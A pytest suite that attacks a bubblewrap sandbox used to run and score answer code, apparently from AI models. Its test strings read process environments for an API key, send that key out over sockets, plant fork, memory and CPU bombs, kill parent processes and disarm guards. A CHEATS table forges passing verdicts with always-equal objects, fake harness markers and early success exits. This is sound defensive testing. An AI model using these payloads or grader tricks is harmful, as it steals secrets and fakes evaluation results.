"""Answer code is hostile: each attack class against the real bubblewrap sandbox.

Every test runs real code in the real sandbox (bubblewrap is installed by .ci/run); nothing is
mocked except, in the last block, the bwrap binary itself to show that without it nothing runs.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from routing.evaluation import code as code_module
from routing.evaluation import sandbox
from routing.evaluation.sandbox import isolation, run_python, sandbox_status
from routing.evaluation.evaluator import evaluate
from routing.settings import REPO_ROOT

SECRET = "sk-or-v1-THIS-IS-THE-SPACE-OWNERS-KEY-0123456789"

# On CI bubblewrap is installed by .ci/run, so a missing sandbox there is a failure, not a skip.
pytestmark = pytest.mark.skipif(not sandbox_status().available and not os.environ.get("CI"),
                                reason=f"no OS sandbox on this machine: {sandbox_status().reason}")


@pytest.fixture(autouse=True)
def secret_in_parent(monkeypatch: pytest.MonkeyPatch) -> str:
    """The app's process holds the key, as on a Space."""
    monkeypatch.setenv("OPENROUTER_API_KEY", SECRET)
    return SECRET


def everything_said(result: sandbox.RunResult) -> str:
    parts = [result.syntax_error, *(s.error for s in result.statements), *(t for _, t in result.prints),
             *result.test_errors]
    return "\n".join(parts)


# ---- secrets -----------------------------------------------------------------------------------------

#: Turns off in-process guards of the kind the old sandbox had (an audit hook reading the harness's
#: globals), so that each attack below meets only the operating system's isolation.
DISARM = """
import __main__
for _name, _value in (('_BLOCKED_PREFIXES', ('-nothing-',)), ('_PATH_EVENTS', set()), ('_inside', lambda p: True)):
    setattr(__main__, _name, _value)
"""

_APP_PROCESS = """
import json, sys
from routing.evaluation.sandbox import run_python
source, tests = json.loads(sys.stdin.read())
r = run_python(source, tests, timeout_s=3.0)
said = [r.syntax_error] + [s.error for s in r.statements] + [t for _, t in r.prints] + r.test_errors
print(json.dumps({"said": "\\n".join(said), "tests": r.tests, "ran": bool(r.statements)}))
"""


def run_in_app_process(source: str, tests: list[str] | None = None) -> tuple[int, dict]:
    """run_python from a separate process that, like the app, was started with the key in its environment."""
    env = dict(os.environ, OPENROUTER_API_KEY=SECRET, PYTHONPATH=str(REPO_ROOT))
    done = subprocess.run([sys.executable, "-c", _APP_PROCESS], input=json.dumps([DISARM + source, tests or []]),
                          capture_output=True, text=True, env=env, cwd=REPO_ROOT, timeout=60)
    lines = done.stdout.strip().splitlines()
    return done.returncode, (json.loads(lines[-1]) if lines else {})


def test_answer_cannot_read_the_parents_environment() -> None:
    source = """
import os, glob
found = []
for path in ['/proc/self/environ', '/proc/1/environ', '/proc/%d/environ' % os.getppid()] + glob.glob('/proc/*/environ'):
    try:
        found.append(open(path, 'rb').read().decode('latin-1'))
    except Exception as exc:
        found.append(repr(exc))
print(os.environ.get('OPENROUTER_API_KEY'), dict(os.environ))
print(found)
print(open('/proc/self/cmdline', 'rb').read())
try:
    import subprocess
    print(subprocess.run(['sh', '-c', 'cat /proc/*/environ; env; ls /root /home /work 2>&1'], capture_output=True).stdout)
except Exception as exc:
    print(exc)
def leak():
    return repr(found) + repr(dict(os.environ))
"""
    code, result = run_in_app_process(source, ["assert leak() == 'x'"])
    assert code == 0 and result["ran"], result
    assert SECRET not in result["said"]
    assert "OPENROUTER_API_KEY" not in result["said"]


def test_no_project_data_or_home_folder_is_visible() -> None:
    source = f"""
import os
for path in [{str(REPO_ROOT)!r}, {str(REPO_ROOT / 'data')!r}, {str(Path.home() / '.cache')!r}, '/etc/passwd', '/work',
             '/root', '/home', '/var']:
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else os.path.exists(path))
    except OSError as exc:
        print(path, type(exc).__name__)
"""
    result = run_python(source)
    printed = "".join(t for _, t in result.prints)
    assert "app.py" not in printed and "routing" not in printed
    assert "/etc/passwd False" in printed


# ---- files -------------------------------------------------------------------------------------------

def test_answer_cannot_write_outside_its_tmpfs(tmp_path: Path) -> None:
    tmp_path.chmod(0o777)
    targets = {name: tmp_path / name for name in ("plain.txt", "dirfd.txt", "db.sqlite", "fifo", "link")}
    project_file = REPO_ROOT / "sandbox-escape-probe.txt"
    source = DISARM + f"""
import os, sqlite3
T = {{k: str(v) for k, v in {dict((k, str(v)) for k, v in targets.items())!r}.items()}}
def attempt(fn):
    try:
        fn()
        print('did it')
    except Exception as exc:
        print(type(exc).__name__)
attempt(lambda: open(T['plain.txt'], 'w').write('x'))
attempt(lambda: open({str(project_file)!r}, 'w').write('x'))
def via_dirfd():
    fd = os.open('/', os.O_RDONLY)
    rel = os.path.relpath(T['dirfd.txt'], '/')
    os.close(os.open(rel, os.O_CREAT | os.O_WRONLY, dir_fd=fd))
attempt(via_dirfd)
attempt(lambda: sqlite3.connect(T['db.sqlite']).execute('create table t(x)'))
attempt(lambda: os.mkfifo(T['fifo']))
attempt(lambda: os.symlink('/tmp', T['link']))
attempt(lambda: open('/usr/escape.txt', 'w'))
"""
    result = run_python(source)
    assert result.ran_to_end, everything_said(result)
    assert not any(path.exists() for path in targets.values())
    assert not project_file.exists()
    assert not Path("/usr/escape.txt").exists()


def test_disk_filling_stops_at_the_tmpfs_size() -> None:
    source = """
import os
for folder in ('/tmp', '/dev/shm', '/dev', '/'):
    written = 0
    try:
        for i in range(40):
            with open(folder.rstrip('/') + '/f%d' % i, 'wb') as f:
                f.write(b'x' * ((1 << 20) - 1))
            written += 1
    except OSError as exc:
        pass
    print(folder, written)
"""
    result = run_python(source, timeout_s=5)
    written = dict(t.split() for _, t in result.prints)
    assert 0 < int(written["/tmp"]) <= 16          # the 16 MiB tmpfs is full
    assert written["/dev/shm"] == written["/dev"] == written["/"] == "0"   # read-only


# ---- processes ---------------------------------------------------------------------------------------

def _alive_with(marker: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().decode("latin-1")
            except OSError:
                continue
            if marker in cmdline:
                found.append(pid)
    return found


def test_setsid_and_unaudited_children_die_with_the_sandbox() -> None:
    marker = "31.4159"
    source = DISARM + f"""
import os, subprocess, multiprocessing, _posixsubprocess
_posixsubprocess.fork_exec([b'/bin/sleep', b'{marker}'], [b'/bin/sleep'], True, (), None, None, -1, -1, -1, -1, -1, -1,
                           *os.pipe(), False, True, -1, None, None, None, -1, None, False)
subprocess.Popen(['sleep', '{marker}'], start_new_session=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    os.execv('/bin/sleep', ['sleep', '{marker}'])
import subprocess as sp
sp.Popen(['sh', '-c', 'setsid sleep {marker} & disown'])
def job():
    import time
    time.sleep(30)
p = multiprocessing.Process(target=job)
p.start()
print('started', p.pid)
"""
    start = time.monotonic()
    result = run_python(source, timeout_s=2.0)
    elapsed = time.monotonic() - start
    assert elapsed < 5, "run_python waited for children that outlived the answer"
    time.sleep(0.2)
    assert _alive_with(marker) == []
    assert result.ran_to_end


def test_answer_cannot_kill_the_app() -> None:
    canary = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        source = f"""
import os, signal
for target in (os.getppid(), 1, -1, 0, {canary.pid}):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception as exc:
        print(target, type(exc).__name__)
"""
        code, _ = run_in_app_process(source)
        assert code == 0, "the process running the sandbox was killed"
        assert canary.poll() is None, "a process outside the sandbox was killed"
    finally:
        canary.kill()
        canary.wait()


def test_fork_bomb_is_bounded_and_ends() -> None:
    source = DISARM + """
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as exc:
    print('stopped at', children, type(exc).__name__)
"""
    start = time.monotonic()
    result = run_python(source, timeout_s=3.0)
    assert time.monotonic() - start < 6
    printed = "".join(t for _, t in result.prints)
    assert "stopped at" in printed, everything_said(result)
    assert int(printed.split()[2]) < sandbox.Limits().processes


def test_cpu_bomb_times_out_and_kills_everything() -> None:
    source = DISARM + """
import os
for _ in range(4):
    if os.fork() == 0:
        while True:
            pass
while True:
    pass
"""
    start = time.monotonic()
    result = run_python(source, timeout_s=1.0)
    assert result.timed_out and not result.finished
    assert time.monotonic() - start < 3


def test_memory_bomb_hits_the_address_space_limit() -> None:
    result = run_python("x = bytearray(8 << 30)\ny = [0] * (10 ** 10)\nprint('still here')\n")
    assert [s.error.split(":")[0] for s in result.statements] == ["MemoryError", "MemoryError", ""]
    assert result.prints == [(3, "still here\n")]


def test_stdout_flood_is_capped() -> None:
    source = """
import os, sys
while True:
    os.write(1, b'x' * 65536)
    sys.stdout.write('y' * 65536)
"""
    start = time.monotonic()
    result = run_python(source, timeout_s=5.0)
    assert result.output_overflow
    assert time.monotonic() - start < 4, "the flood should end the run at the cap, not at the deadline"


def test_no_network_not_even_the_hosts_loopback() -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    got: list[object] = []

    def accept() -> None:
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            try:
                got.append(listener.accept())
            except (socket.timeout, OSError):
                continue

    thread = threading.Thread(target=accept)
    thread.start()
    try:
        source = DISARM + f"""
import socket, os
for host in ('127.0.0.1', '10.0.0.1', 'openrouter.ai'):
    try:
        socket.create_connection((host, {port}), timeout=0.5).sendall(os.environ.get('OPENROUTER_API_KEY', 'x').encode())
        print(host, 'connected')
    except Exception as exc:
        print(host, type(exc).__name__)
"""
        result = run_python(source, timeout_s=3.0)
    finally:
        thread.join()
        listener.close()
    printed = "".join(t for _, t in result.prints)
    assert "connected" not in printed and printed
    assert got == []


# ---- verdicts that cannot be forged ------------------------------------------------------------------

PROMPT = ("Write a Python function `triple(n)` that returns three times n.\n"
          "assert triple(7) == 21\nassert triple(0) == 0\nassert triple(-2) == -6")
HONEST_WRONG = "def triple(n):\n    return n + n\n"

CHEATS = {
    "edits the harness": """
def triple(n):
    return n + n
import __main__
__main__._serve = lambda msg: 21
__main__.encode_value = lambda value, to_handle=None: ['i', format(21, 'x')]
__main__._emit('done')
""",
    "exits early with success": """
import os
def triple(n):
    return n + n
print('All tests passed')
os._exit(0)
""",
    "exits with success from inside the function": """
import sys
def triple(n):
    sys.exit(0)
""",
    "prints the harness's markers": """
import __main__, sys
def triple(n):
    return n + n
nonce = __main__._nonce
for i in range(3):
    sys.__stdout__.write(nonce + '{"kind": "test", "index": %d, "ok": true}\\n' % i)
sys.__stdout__.write(nonce + '{"kind": "done"}\\n')
sys.__stdout__.flush()
""",
    "returns an always-equal object": """
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
def triple(n):
    return Anything()
""",
    "returns an int subclass that equals everything": """
class Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def triple(n):
    return Int(n + n)
""",
    "patches the comparison builtins": """
import builtins
builtins.AssertionError = type('Never', (Exception,), {})
def triple(n):
    return n + n
""",
}


def fenced(code: str) -> str:
    return f"Here you go:\n\n```python\n{code.strip()}\n```\n"


@pytest.mark.parametrize("trick", sorted(CHEATS))
def test_a_cheating_wrong_solution_scores_no_higher_than_an_honest_wrong_one(trick: str) -> None:
    honest = evaluate(PROMPT, fenced(HONEST_WRONG))
    cheat = evaluate(PROMPT, fenced(CHEATS[trick]))
    # Code quality is where running the code counts (the other dimensions read the text, which differs).
    assert cheat["dimensions"]["code_quality"] <= honest["dimensions"]["code_quality"], cheat["explanations"]
    assert "passes 1/3" in honest["explanations"]["code_quality"]
    assert "passes 0/3" in cheat["explanations"]["code_quality"] or "passes 1/3" in cheat["explanations"]["code_quality"]
    result = run_python(CHEATS[trick], ["assert triple(7) == 21", "assert triple(0) == 0", "assert triple(-2) == -6"])
    # the honest wrong solution passes triple(0) == 0 only; no trick passes more.
    assert sum(result.tests) <= 1, (trick, result.tests, result.test_errors)


def test_a_correct_solution_still_passes_every_test() -> None:
    correct = "def triple(n):\n    return 3 * n\n"
    result = run_python(correct, ["assert triple(7) == 21", "assert triple(0) == 0", "assert triple(-2) == -6"])
    assert result.tests == [True, True, True] and result.finished
    assert evaluate(PROMPT, fenced(correct))["normalized"] > evaluate(PROMPT, fenced(HONEST_WRONG))["normalized"]


def test_tests_see_plain_values_objects_and_exceptions_of_the_answer() -> None:
    source = """
from collections import namedtuple
import math
Point = namedtuple('Point', 'x y')
class Stack:
    def __init__(self):
        self.items = []
    def push(self, x):
        self.items.append(x)
    def pop(self):
        if not self.items:
            raise IndexError('pop from empty stack')
        return self.items.pop()
    def __len__(self):
        return len(self.items)
def point():
    return Point(1, 2)
def squares(n):
    for i in range(n):
        yield i * i
def root(x):
    if x < 0:
        raise ValueError('negative')
    return math.sqrt(x)
"""
    tests = [
        "assert point() == (1, 2)",
        "s = Stack(); s.push(4); s.push(5); assert s.pop() == 5 and len(s) == 1",
        "assert list(squares(4)) == [0, 1, 4, 9]",
        "assert math.isclose(root(2), 1.41421356, rel_tol=1e-6)",
        "try:\n    root(-1)\nexcept ValueError:\n    pass\nelse:\n    raise AssertionError",
        "assert all(root(i * i) == i for i in range(5))",
        "assert sorted({3, 1, 2}, key=lambda v: -v) == [3, 2, 1] and point()[1] == 2",
        "assert Stack() == Stack()",
    ]
    result = run_python(source, tests)
    assert result.tests == [True, True, True, True, True, True, True, False], result.test_errors


# ---- no pretend sandbox ------------------------------------------------------------------------------

@pytest.fixture
def no_bwrap(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the kernel "
                    "does not allow non-privileged user namespaces.' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv(isolation.BWRAP_ENV, str(fake))
    isolation.reset_status()
    yield fake
    monkeypatch.delenv(isolation.BWRAP_ENV)
    isolation.reset_status()


def test_without_namespaces_code_is_scored_statically_and_never_run(no_bwrap, monkeypatch) -> None:
    status = sandbox_status()
    assert not status.available and "namespace" in status.reason

    def forbidden(*args, **kwargs):
        raise AssertionError("code was started although no sandbox is available")

    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(code_module, "run_python", forbidden)
    result = evaluate(PROMPT, fenced("def triple(n):\n    return 3 * n\n"))
    assert "scored statically" in result["explanations"]["code_quality"]
    assert "namespace" in result["explanations"]["code_quality"]
    with pytest.raises(sandbox.SandboxUnavailable):
        isolation.spawn(["-c", "print(1)"], b"")


def test_running_code_can_be_switched_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(isolation.BWRAP_ENV, "off")
    isolation.reset_status()
    try:
        status = sandbox_status()
        assert not status.available and "switched off" in status.describe()
    finally:
        monkeypatch.delenv(isolation.BWRAP_ENV)
        isolation.reset_status()


def test_codec_sends_exact_types_and_refuses_oversize_values() -> None:
    from routing.evaluation.sandbox.codec import MAX_DEPTH, CodecError, decode_value, encode_value

    class Sneaky(int):
        def __eq__(self, other):
            return True
        __hash__ = int.__hash__

    value = decode_value(encode_value({"a": (1, 2.5, Sneaky(3)), "b": {frozenset({1}), b"x"}, "c": 10 ** 30}))
    assert value == {"a": (1, 2.5, 3), "b": {frozenset({1}), b"x"}, "c": 10 ** 30}
    assert type(value["a"][2]) is int and value["a"][2] != 4
    nested: list = []
    for _ in range(MAX_DEPTH + 2):
        nested = [nested]
    with pytest.raises(CodecError):
        encode_value(nested)
    with pytest.raises(CodecError):
        encode_value(list(range(300_000)))
    with pytest.raises(CodecError):
        encode_value(object())            # no handle table: only plain data crosses
    with pytest.raises(CodecError):
        decode_value(["i", 5])            # malformed: ints travel as hex text
